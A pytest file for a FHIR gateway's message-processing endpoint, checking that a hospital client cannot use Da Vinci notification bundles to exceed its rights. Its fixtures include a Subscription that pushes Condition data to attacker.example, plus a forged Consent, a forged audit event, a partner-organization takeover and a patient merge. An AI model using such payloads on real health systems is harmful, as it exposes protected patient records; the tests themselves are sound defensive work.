"""``POST /$process-message`` writes with the rights of the hospital client that posts it: the
types a Da Vinci notification carries are stored, a type it may not write directly refuses the
whole message (nothing stored), any other type is skipped with a warning."""

from __future__ import annotations

import copy
import uuid
from pathlib import Path
from typing import Any

import orjson
import pytest
from security_data import CLIENTS, consent, seed
from security_helpers import bearer, get_token, register, secure_client
from sqlalchemy import select

from fhir_gateway.context import SYSTEM
from fhir_gateway.services import resources as svc
from fhir_gateway.store.tables import resources

ALERTS = Path(__file__).resolve().parents[1] / "data" / "fhir" / "davinci-alerts"
ENDPOINT = (
    "https://example.org/Endpoints/P456"  # MessageHeader.source.endpoint of the IG's examples
)
ENCOUNTER_ID = "http://example.org|Elden718Halvorson12420181021T2122150700"
HOPE_NPI = {"system": "http://hl7.org/fhir/sid/us-npi", "value": "1234567893"}


def _message(*extra: dict[str, Any]) -> dict[str, Any]:
    """The IG's admit example (it carries a Device), under a fresh message id, plus ``extra``."""
    bundle = orjson.loads((ALERTS / "admit-notification-message-bundle-02.json").read_bytes())
    bundle["entry"][0]["resource"]["id"] = str(uuid.uuid4())
    bundle["entry"] += [
        {"fullUrl": f"urn:uuid:{uuid.uuid4()}", "resource": copy.deepcopy(r)} for r in extra
    ]
    return bundle  # type: ignore[no-any-return]


@pytest.fixture
def world(database, database_url):  # type: ignore[no-untyped-def]
    with secure_client(database, database_url) as client:
        seed(database)
        database.write(
            lambda s: svc.update(
                s,
                "Organization",
                "hope",
                {
                    "resourceType": "Organization",
                    "id": "hope",
                    "name": "Hope Housing",
                    "active": True,
                    "identifier": [HOPE_NPI],
                },
                SYSTEM,
            )
        )
        hospital = register(
            database, "hospital", ["system/*.cruds"], "Organization/st-marys", senders=[ENDPOINT]
        )
        headers = {"hospital": bearer(get_token(client, hospital))}
        for name in ("case-manager", "admin"):
            headers[name] = bearer(get_token(client, register(database, *CLIENTS[name])))
        yield client, headers, database


def _stored(database, res_type: str) -> list[dict[str, Any]]:  # type: ignore[no-untyped-def]
    with database.session(readonly=True) as session:
        rows = session.execute(
            select(resources.c.content).where(
                resources.c.res_type == res_type, resources.c.deleted.is_(False)
            )
        ).scalars()
        return [r if isinstance(r, dict) else orjson.loads(r) for r in rows]


def _refused(client, headers, message: dict[str, Any], index: int) -> dict[str, Any]:  # type: ignore[no-untyped-def]
    answer = client.post("/$process-message", json=message, headers=headers["hospital"])
    assert answer.status_code == 403, answer.text
    outcome = answer.json()
    assert outcome["resourceType"] == "OperationOutcome"
    assert f"Bundle.entry[{index}]" in answer.text  # names the entry
    found = client.get(
        "/Encounter", params={"identifier": ENCOUNTER_ID}, headers=headers["case-manager"]
    ).json()
    assert found["total"] == 0  # the whole message failed: nothing of it was stored
    return outcome  # type: ignore[no-any-return]


def test_a_consent_for_another_patient_fails_the_message(world):  # type: ignore[no-untyped-def]
    client, headers, database = world
    assert client.get("/Condition/c-sud", headers=headers["hospital"]).status_code == 404
    grant = {**consent("pat-sud", "Organization/st-marys"), "id": "forged"}
    _refused(client, headers, _message(grant), 10)
    assert _stored(database, "Consent") == []
    assert (
        client.get("/Condition/c-sud", headers=headers["hospital"]).status_code == 404
    )  # still hidden
    assert (
        client.post("/Consent", json=grant, headers=headers["hospital"]).status_code == 403
    )  # as directly


def test_a_subscription_fails_the_message_and_nothing_is_queued(world):  # type: ignore[no-untyped-def]
    client, headers, database = world
    hook = {
        "resourceType": "Subscription",
        "status": "requested",
        "reason": "exfiltrate",
        "criteria": "Condition?",
        "channel": {
            "type": "rest-hook",
            "endpoint": "https://attacker.example/hook",
            "payload": "application/fhir+json",
        },
    }
    _refused(client, headers, _message(hook), 10)
    assert _stored(database, "Subscription") == []
    assert client.post("/Subscription", json=hook, headers=headers["hospital"]).status_code == 403


def test_a_forged_audit_event_fails_the_message(world):  # type: ignore[no-untyped-def]
    client, headers, database = world
    forged = {
        "resourceType": "AuditEvent",
        "recorded": "2026-01-01T00:00:00Z",
        "outcomeDesc": "forged-by-hospital",
        "type": {
            "system": "http://terminology.hl7.org/CodeSystem/audit-event-type",
            "code": "rest",
        },
        "agent": [{"requestor": True, "who": {"display": "someone else"}}],
        "source": {"observer": {"display": "gateway"}},
    }
    _refused(client, headers, _message(forged), 10)
    assert not [
        e for e in _stored(database, "AuditEvent") if e.get("outcomeDesc") == "forged-by-hospital"
    ]


def test_an_update_of_a_partner_directory_organization_fails_the_message(world):  # type: ignore[no-untyped-def]
    client, headers, _ = world
    hijack = {
        "resourceType": "Organization",
        "identifier": [HOPE_NPI],
        "name": "Hope Housing (new address)",
        "active": True,
    }
    _refused(client, headers, _message(hijack), 10)
    assert (
        client.get("/Organization/hope", headers=headers["case-manager"]).json()["name"]
        == "Hope Housing"
    )
    direct = client.put(
        "/Organization/hope", json={**hijack, "id": "hope"}, headers=headers["hospital"]
    )
    assert direct.status_code == 403  # the same rule directly


def test_a_notification_is_stored_with_its_device_and_other_types_skipped_with_a_warning(world):  # type: ignore[no-untyped-def]
    client, headers, database = world
    weight = {
        "resourceType": "Observation",
        "id": "w1",
        "status": "final",
        "code": {"text": "weight"},
        "identifier": [{"system": "urn:test", "value": "weight-1"}],
    }
    answer = client.post("/$process-message", json=_message(weight), headers=headers["hospital"])
    assert answer.status_code == 200, answer.text
    assert answer.json()["entry"][0]["resource"]["response"]["code"] == "ok"
    cm = headers["case-manager"]
    assert (
        client.get("/Encounter", params={"identifier": ENCOUNTER_ID}, headers=cm).json()["total"]
        == 1
    )
    devices = client.get(
        "/Device", params={"identifier": "http://example.org/fhir/device-ids|12345"}, headers=cm
    )
    assert devices.json()["total"] == 1  # the IG's admit example carries a Device
    assert _stored(database, "Observation") == [
        r for r in _stored(database, "Observation") if r["id"] == "o-1"
    ]
    [message] = client.get("/inbox", headers=headers["admin"]).json()["messages"]
    detail = client.get(f"/inbox/{message['id']}", headers=headers["admin"]).json()
    assert any(
        "Bundle.entry[10]" in w and "Observation" in w and "skipped" in w
        for w in detail["warnings"]
    )


def test_a_patient_merge_fails_the_message(world):  # type: ignore[no-untyped-def]
    client, headers, _ = world
    message = _message()
    patient = message["entry"][2]["resource"]
    patient["link"] = [{"other": {"reference": "Patient/pat-sud"}, "type": "replaces"}]
    _refused(client, headers, message, 2)
    cm = headers["case-manager"]
    assert (
        client.get("/Condition/c-sud", headers=cm).json()["subject"]["reference"]
        == "Patient/pat-sud"
    )
    assert client.get("/Patient/pat-sud", headers=cm).json()["identifier"][0]["value"] == "MRN-2"


def _substance_use(name: str) -> dict[str, Any]:
    bundle = orjson.loads((ALERTS / name).read_bytes())
    for entry in bundle["entry"]:
        if entry["resource"]["resourceType"] == "Condition":
            entry["resource"]["code"] = {
                "coding": [{"system": "http://hl7.org/fhir/sid/icd-10-cm", "code": "F10.20"}]
            }
    return bundle  # type: ignore[no-any-return]


def test_a_hospital_updates_its_own_part2_records_by_its_next_message(world):  # type: ignore[no-untyped-def]
    client, headers, _ = world
    for name in (
        "admit-notification-message-bundle-01.json",
        "discharge-notification-message-bundle-01.json",
    ):
        answer = client.post(
            "/$process-message", json=_substance_use(name), headers=headers["hospital"]
        )
        assert answer.status_code == 200, answer.text
    cm = headers["case-manager"]
    found = client.get("/Encounter", params={"identifier": ENCOUNTER_ID}, headers=cm).json()
    assert found["entry"][0]["resource"]["status"] == "finished"  # the discharge was applied
    bundle = client.get("/Condition", params={"code": "F10.20"}, headers=cm).json()
    # one Condition: the discharge wrote the admit's again (c-sud is the seed's)
    [condition] = [e["resource"] for e in bundle["entry"] if e["resource"]["id"] != "c-sud"]
    assert "42CFRPart2" in {s["code"] for s in condition["meta"]["security"]}
    hidden = client.get(f"/Condition/{condition['id']}", headers=headers["hospital"])
    assert hidden.status_code == 404  # its REST view is unchanged: no consent, no Part 2 data


def test_a_message_applied_without_its_poster_gets_the_rights_of_the_senders_client(
    database, settings
):  # type: ignore[no-untyped-def]
    """Replay and recovery apply a stored message with no caller at hand: the hospital client
    registered for its sender stands in, not the gateway."""
    from fhir_gateway.services.ingest import Intake

    register(
        database,
        "hospital",
        ["system/Patient.crus", "system/Encounter.crus"],
        "Organization/st-marys",
        senders=[ENDPOINT],
    )
    answer = Intake(database, settings).receive_fhir(orjson.dumps(_message()), caller=None)
    assert (
        answer.http_status == 403 and b"Not permitted" in answer.body
    )  # its scopes lack Location, Device, …
    assert _stored(database, "Encounter") == []
